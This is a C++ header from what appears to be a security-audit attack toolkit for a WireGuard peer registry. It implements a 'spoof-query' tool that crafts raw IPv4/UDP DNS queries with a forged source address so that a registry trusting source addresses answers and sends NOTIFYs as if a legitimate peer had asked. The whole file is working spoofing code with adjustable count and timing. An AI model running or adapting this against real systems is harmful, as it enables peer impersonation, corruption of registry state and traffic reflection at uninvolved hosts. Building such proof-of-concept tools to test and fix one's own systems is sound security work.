// `wgp_attack spoof-query`: plain DNS queries to a target from a FORGED
// source address and port (raw socket), as an off-path attacker sends them:
// with the source of a peer's endpoint, a registry that takes a source address
// for authentication answers and NOTIFYs as if that peer had asked (issue 10,
// point 1 of "What was found"). SRV of `<B32(key)>._wireguard._udp.<zone>`
// with --key, else PTR of `_wireguard._udp.<zone>`. Nothing comes back to us:
// answers go to the forged source.
#pragma once

#include <chrono>
#include <optional>
#include <string>
#include <thread>

#include "attack_common.h"
#include "attack_dns.h"
#include "attack_raw.h"

namespace wgp::attack {

struct SpoofQueryPlan {
  Endpoint from;  // forged source
  Endpoint target;
  std::string name;
  uint16_t qtype = 0;
  std::optional<uint16_t> edns;
  uint64_t count = 1;
  double gap_ms = 10;
};

inline void run_spoof_query(const SpoofQueryPlan& plan) {
  RawSender sender;
  std::vector<std::vector<uint8_t>> packets(1);
  uint64_t sent = 0, query_bytes = 0;
  uint16_t id = uint16_t(uint64_t(BootClock::now().time_since_epoch().count()) * 2654435761u >> 8);
  auto start = BootClock::now();
  for (uint64_t i = 0; i < plan.count; ++i) {
    if (BootClock::now() - start > std::chrono::seconds(int(kMaxSeconds))) break;
    id = next_query_id(id);
    std::vector<uint8_t> query = dns_query(id, plan.name, plan.qtype, plan.edns);
    build_ipv4_udp(plan.from, plan.target, query, id, packets[0]);
    if (!ipv4_udp_checksums_ok(packets[0])) throw std::logic_error("self-check: bad checksum");
    if (sender.send(packets, 1) == 1) {
      ++sent;
      query_bytes += query.size();
    }
    if (i + 1 < plan.count && plan.gap_ms > 0)
      std::this_thread::sleep_for(std::chrono::microseconds(int64_t(plan.gap_ms * 1000)));
  }
  std::printf("sent=%llu send_errors=%llu query_bytes=%llu spoofed_from=%s target=%s\n",
              (unsigned long long)sent, (unsigned long long)sender.errors(),
              (unsigned long long)query_bytes, plan.from.to_string().c_str(),
              plan.target.to_string().c_str());
}

}  // namespace wgp::attack
